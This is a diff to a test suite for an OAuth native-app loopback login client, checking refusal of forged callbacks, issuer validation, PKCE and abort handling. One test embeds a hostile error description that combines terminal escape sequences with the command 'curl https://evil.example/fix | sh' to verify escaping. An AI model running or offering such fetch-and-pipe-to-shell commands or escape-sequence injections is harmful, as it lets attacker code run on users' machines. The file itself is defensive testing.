@@ -2,8 +2,8 @@ import { createRemoteJWKSet, jwtVerify } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createCodeClient, type CodeClient, type TestUser } from '../../server/test/helpers/browser-agent.js';
 import type { TestServer } from '../../server/test/helpers/server.js';
-import { GatehouseClientError, loopbackLogin, OAuthResponseError, type LoopbackLoginOptions } from '../src/index.js';
-import { API, countingFetch, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';
+import { loopbackLogin, OAuthResponseError, type GatehouseClientError, type LoopbackLoginOptions } from '../src/index.js';
+import { API, controlCharsIn, countingFetch, SCOPE, signInAndConsent, startLoginFixture, type LoginFixture } from './helpers/harness.js';
 
 describe('native-app login: authorization code + PKCE through a loopback redirect, in headless Chromium', () => {
   let fixture: LoginFixture;
@@ -108,30 +108,78 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
     expect(result.idTokenClaims?.sub).toBe(user.user.userId);
   });
 
-  it('refuses a response with the right state but a wrong or missing iss (RFC 9207): no code is redeemed', async () => {
-    for (const iss of ['https://evil.example.com', undefined]) {
-      const counter = countingFetch();
-      let answer: { status: number; text: string } | undefined;
-      const login = options(
-        async (url) => {
-          const request = new URL(url);
+  it('a callback with the right state but a wrong or missing iss (RFC 9207), or no code, is refused (400) without redeeming anything; the real one completes', async () => {
+    const page = await newPage();
+    const counter = countingFetch();
+    const answers: { status: number; text: string }[] = [];
+    // Another local user read the authorization URL (state included) from the opener's argv.
+    const login = options(
+      async (url) => {
+        const request = new URL(url);
+        for (const extra of [{ code: 'a-code-from-elsewhere', iss: 'https://evil.example.com' }, { code: 'a-code-from-elsewhere' }, { iss: t.issuer }]) {
           const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
-          callback.searchParams.set('code', 'a-code-from-elsewhere');
           callback.searchParams.set('state', request.searchParams.get('state') ?? '');
-          if (iss !== undefined) callback.searchParams.set('iss', iss);
+          for (const [name, value] of Object.entries(extra)) callback.searchParams.set(name, value);
           const response = await fetch(callback);
-          answer = { status: response.status, text: await response.text() };
-        },
-        { fetch: counter.fetch },
-      );
-      const err = await loopbackLogin(login.options).catch((e: unknown) => e);
-      await login.driven();
-      expect(err).toBeInstanceOf(GatehouseClientError);
-      expect((err as GatehouseClientError).code).toBe('invalid_callback');
-      expect(answer?.status).toBe(400);
-      expect(answer?.text).toContain('Sign-in failed');
-      expect(counter.count('/token')).toBe(0);
-    }
+          answers.push({ status: response.status, text: await response.text() });
+        }
+        await signInAndConsent(page, url, user, 'none');
+        await page.getByRole('heading', { name: 'Signed in' }).waitFor();
+      },
+      { fetch: counter.fetch },
+    );
+    const result = await loopbackLogin(login.options);
+    await login.driven();
+    expect(answers.map((a) => a.status)).toEqual([400, 400, 400]);
+    for (const answer of answers) expect(answer.text).toContain('does not belong to the sign-in in progress');
+    expect(counter.count('/token')).toBe(1);
+    expect(result.idTokenClaims?.sub).toBe(user.user.userId);
+  });
+
+  it('a forged code with the right state and iss is refused by the token endpoint (PKCE): the login keeps waiting and completes', async () => {
+    const page = await newPage();
+    const counter = countingFetch();
+    let forged: { status: number; text: string } | undefined;
+    const login = options(
+      async (url) => {
+        const request = new URL(url);
+        const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
+        callback.searchParams.set('code', 'forged-code');
+        callback.searchParams.set('state', request.searchParams.get('state') ?? '');
+        callback.searchParams.set('iss', t.issuer);
+        const response = await fetch(callback);
+        forged = { status: response.status, text: await response.text() };
+        await signInAndConsent(page, url, user, 'none');
+        await page.getByRole('heading', { name: 'Signed in' }).waitFor();
+      },
+      { fetch: counter.fetch },
+    );
+    const result = await loopbackLogin(login.options);
+    await login.driven();
+    expect(forged?.status).toBe(400);
+    expect(forged?.text).toContain('does not belong to the sign-in in progress');
+    expect(counter.seen.filter((s) => s.url.pathname === '/token').map((s) => s.outcome)).toEqual([400, 200]);
+    expect(result.idTokenClaims?.sub).toBe(user.user.userId);
+  });
+
+  it('an error response with the right state and iss ends the login (it cannot be told from a denial); its description is escaped in the message', async () => {
+    const description = '\u001b[2K\rSession expired. Re-run: curl https://evil.example/fix | sh\u001b]0;pwned\u0007';
+    const login = options(async (url) => {
+      const request = new URL(url);
+      const callback = new URL(request.searchParams.get('redirect_uri') ?? '');
+      callback.searchParams.set('error', 'access_denied');
+      callback.searchParams.set('error_description', description);
+      callback.searchParams.set('state', request.searchParams.get('state') ?? '');
+      callback.searchParams.set('iss', t.issuer);
+      await fetch(callback);
+    });
+    const err = await loopbackLogin(login.options).catch((e: unknown) => e);
+    await login.driven();
+    expect(err).toBeInstanceOf(OAuthResponseError);
+    expect((err as OAuthResponseError).code).toBe('access_denied');
+    expect((err as OAuthResponseError).description).toBe(description);
+    expect(controlCharsIn((err as Error).message)).toEqual([]);
+    expect((err as Error).message).toContain('\\x1b[2K\\x0dSession expired');
   });
 
   it('the user denies: access_denied, and the browser is told', async () => {
@@ -168,5 +216,48 @@ describe('native-app login: authorization code + PKCE through a loopback redirec
     controller.abort();
     expect(((await pending) as GatehouseClientError).code).toBe('aborted');
     await expect(fetch(redirect?.origin ?? '')).rejects.toThrow();
+  });
+
+  it('rejects cleanly (no unhandled rejection) when the signal is already aborted, or the timeout fires while onAuthorizationUrl is still busy', async () => {
+    // Vitest fails the run on an unhandled rejection: these used to leave one behind.
+    const counter = countingFetch();
+    let shown = 0;
+    const aborted = await loopbackLogin({
+      issuer: t.issuer,
+      clientId: app.clientId,
+      signal: AbortSignal.abort(),
+      fetch: counter.fetch,
+      onAuthorizationUrl: () => {
+        shown++;
+      },
+    }).catch((e: unknown) => e);
+    expect((aborted as GatehouseClientError).code).toBe('aborted');
+    expect({ shown, requests: counter.seen.length }).toEqual({ shown: 0, requests: 0 });
+
+    let redirect: URL | undefined;
+    const started = Date.now();
+    const slowPrompt = await loopbackLogin({
+      issuer: t.issuer,
+      clientId: app.clientId,
+      timeout: 100,
+      onAuthorizationUrl: async (url) => {
+        redirect = new URL(new URL(url).searchParams.get('redirect_uri') ?? '');
+        await new Promise((resolve) => setTimeout(resolve, 1500));
+      },
+    }).catch((e: unknown) => e);
+    expect((slowPrompt as GatehouseClientError).code).toBe('timeout');
+    expect(Date.now() - started).toBeLessThan(1400);
+    await expect(fetch(redirect?.origin ?? '')).rejects.toThrow();
+
+    // Ctrl-C while the prompt is still up: aborted, at once.
+    const controller = new AbortController();
+    setTimeout(() => controller.abort(), 50);
+    const interrupted = await loopbackLogin({
+      issuer: t.issuer,
+      clientId: app.clientId,
+      signal: controller.signal,
+      onAuthorizationUrl: () => new Promise((resolve) => setTimeout(resolve, 1500)),
+    }).catch((e: unknown) => e);
+    expect((interrupted as GatehouseClientError).code).toBe('aborted');
   });
 });
